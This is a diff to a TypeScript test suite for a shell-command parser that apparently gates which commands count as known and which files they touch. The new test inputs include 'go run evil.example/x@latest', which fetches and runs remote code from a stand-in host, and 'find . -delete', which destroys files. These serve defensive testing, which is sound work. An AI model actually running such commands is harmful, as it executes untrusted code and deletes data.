@@ -89,6 +89,11 @@ describe('the grammar', () => {
     'git -c alias.x=!ls x',
     'git x',
     'command ls',
+    "find . -exec cat {} + -name '*.ts' -type f",
+    "find . -delete -name '*.log'",
+    'awk \'{ print "a\\\n" > "x"; y = "b" }\' a.txt',
+    'go run evil.example/x@latest',
+    'tar xf a.tar -C .',
     'ls\u00a0a',
     'ls\r',
   ])('does not know %s', (command) => {
@@ -172,6 +177,7 @@ describe('paths', () => {
     const paths = (command: string): string[] =>
       commandFacts(command, { folder: FOLDER }).touches.map(({ type, path: file }) => `${type} ${file}`);
     expect(paths('cp a.txt sub')).toEqual(['read a.txt', 'write sub', 'write sub/a.txt']);
+    expect(paths('echo x y | xargs -n1 cp a.txt')).toEqual(['read a.txt', 'write x', 'write y']);
     expect(paths('cp a.txt new.txt')).toEqual(['read a.txt', 'write new.txt']);
     expect(paths('mv a.txt .')).toEqual(['read a.txt', 'write a.txt', 'write .', 'write ./a.txt']);
   });
